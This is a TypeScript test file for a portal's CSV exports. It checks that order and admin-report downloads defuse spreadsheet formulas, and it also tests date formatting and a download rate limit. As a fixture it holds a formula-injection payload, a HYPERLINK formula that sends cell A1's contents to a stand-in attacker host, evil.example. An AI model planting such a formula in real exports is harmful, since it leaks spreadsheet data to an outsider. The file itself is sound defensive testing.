import { afterEach, describe, expect, it } from "vitest";
import { useInProcessUpstream } from "../../mocks/handlers/test-setup";
import { server } from "../../mocks/node";
import { db } from "../../mocks/store";
import { cookieFor, settle } from "../../tests/unit/route-helpers";
import { createRequestContext } from "~/context";
import { env, setEnvForTests } from "~/env.server";
import { resetRateLimits } from "~/security/rate-limit.server";
import { action as reportAction } from "./admin.reports.$report";
import { loader as ordersCsvLoader } from "./orders.csv";
import { loader as ordersExportLoader } from "./exports.spares-and-services.$format";
import { parse as parseCsv } from "csv-parse/sync";

/**
 * The CSV files the portal serves (the orders list's download, admin reports) against the in-process embedded
 * upstream: whatever the upstream sends, no cell can start a formula (docs/decisions/015).
 */
useInProcessUpstream();
afterEach(() => server.resetHandlers());

const ORIGIN = "http://portal.test";
const context = () => ({ ...createRequestContext("n") });
const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Open")';

async function ordersCsv(query = "view=history") {
  const request = new Request(`${ORIGIN}/orders/csv?${query}`, { headers: { cookie: await cookieFor("customer@demo.test") } });
  return settle(() => ordersCsvLoader({ request, context: context(), params: {} }));
}

async function report(id: string) {
  const request = new Request(`${ORIGIN}/admin/reports/${id}`, {
    method: "POST",
    body: new URLSearchParams(),
    headers: { cookie: await cookieFor("superadmin@thermax.test"), origin: ORIGIN, "content-type": "application/x-www-form-urlencoded" },
  });
  return settle(() => reportAction({ request, context: context(), params: { report: id } }));
}

describe("orders CSV", () => {
  it("the old address leads to the list's download, query and all", async () => {
    const out = await ordersCsv("view=history&product=Water");
    expect(out.status).toBe(301);
    expect(out.response!.headers.get("location")).toBe("/exports/spares-and-services/csv?view=history&product=Water");
  });

  it("defuses formula cells in the list's download (docs/decisions/015, 102)", async () => {
    for (const order of db.orders) order.customerPo = HOSTILE;
    const request = new Request(`${ORIGIN}/exports/spares-and-services/csv?view=history`, { headers: { cookie: await cookieFor("customer@demo.test") } });
    const out = await settle(() => ordersExportLoader({ request, context: context(), params: { format: "csv" } }));
    expect(out.status).toBe(200);
    const records: string[][] = parseCsv((await out.response!.text()).replace(/^\uFEFF/, ""));
    const po = records[0].indexOf("P.O. number");
    expect(records.length).toBeGreaterThan(1);
    for (const record of records.slice(1)) expect(record[po]).toBe(`'${HOSTILE}`);
  });
});

describe("order history CSV (issue 53 §2)", () => {
  it("names each order's Thermax order and the day it was ordered, dates as ISO 8601", async () => {
    const request = new Request(`${ORIGIN}/exports/spares-and-services/csv?view=history`, { headers: { cookie: await cookieFor("customer@demo.test") } });
    const out = await settle(() => ordersExportLoader({ request, context: context(), params: { format: "csv" } }));
    expect(out.status).toBe(200);
    const [header, ...rows]: string[][] = parseCsv((await out.response!.text()).replace(/^\uFEFF/, ""));
    const so = header.indexOf("Thermax order");
    const ordered = header.indexOf("Order date");
    expect(so).toBeGreaterThan(-1);
    expect(ordered).toBeGreaterThan(-1);
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) {
      const order = db.orders.find((o) => o.erpOrderNumber === row[so]);
      expect(order, row[so]).toBeDefined();
      expect(row[ordered]).toBe(order!.dateOrdered.slice(0, 10));
      for (const cell of [row[ordered], row[header.indexOf("Readiness date")]]) expect(cell).toMatch(/^$|^\d{4}-\d{2}-\d{2}$/);
    }
  });
});

describe("admin report CSV", () => {
  it("defuses a formula in the upstream's data, and keeps the rest", async () => {
    db.emailTemplates[0].subject = HOSTILE;
    db.emailTemplates[1].name = "-2+3";
    const out = await report("email-tracking");
    expect(out.status).toBe(200);
    expect(out.response!.headers.get("content-disposition")).toBe('attachment; filename="email-tracking.csv"');
    const lines = (await out.response!.text()).split("\r\n");
    expect(lines[0]).toBe("template,subject,lastSentAt");
    expect(lines[1]).toMatch(new RegExp(`^Welcome,"'=HYPERLINK\\(""https://evil\\.example/\\?""&A1,""Open""\\)",`));
    expect(lines[2]).toMatch(/^'-2\+3,Your ticket has been updated,/);
  });
});

describe("list downloads' limit", () => {
  afterEach(() => {
    setEnvForTests(undefined);
    resetRateLimits();
  });

  it("past LIST_EXPORTS_PER_USER a user gets 429 with Retry-After; an unknown format is a 404 and not counted", async () => {
    resetRateLimits();
    setEnvForTests({ ...env(), LIST_EXPORTS_PER_USER: 1 });
    const get = async (format: string) => {
      const request = new Request(`${ORIGIN}/exports/spares-and-services/${format}`, { headers: { cookie: await cookieFor("customer@demo.test") } });
      return settle(() => ordersExportLoader({ request, context: context(), params: { format } }));
    };
    expect((await get("pdf")).status).toBe(404);
    const first = await get("xlsx");
    expect(first.status).toBe(200);
    await first.response!.arrayBuffer();
    const refused = await get("csv");
    expect(refused.status).toBe(429);
    expect(Number(refused.response!.headers.get("retry-after"))).toBeGreaterThan(0);
    expect(await refused.response!.text()).toContain("You have downloaded many lists in a short time.");
  });
});
